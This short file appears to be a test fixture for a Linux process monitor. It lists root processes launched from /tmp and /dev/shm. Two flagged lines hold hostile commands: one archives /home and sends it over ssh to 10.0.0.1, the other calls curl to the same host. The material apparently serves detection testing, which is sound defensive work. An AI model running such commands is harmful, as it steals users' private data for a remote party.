os linux
101 1 root - /usr/bin/bash | /usr/bin/bash
102 101 root - /tmp/x/agent | /tmp/x/agent
+ 103 102 root sh /usr/bin/dash | /bin/sh -c "tar cz /home | ssh a@10.0.0.1 cat"
104 101 root - /dev/shm/a | /dev/shm/a
+ 105 104 root - /usr/bin/curl | curl http://10.0.0.1
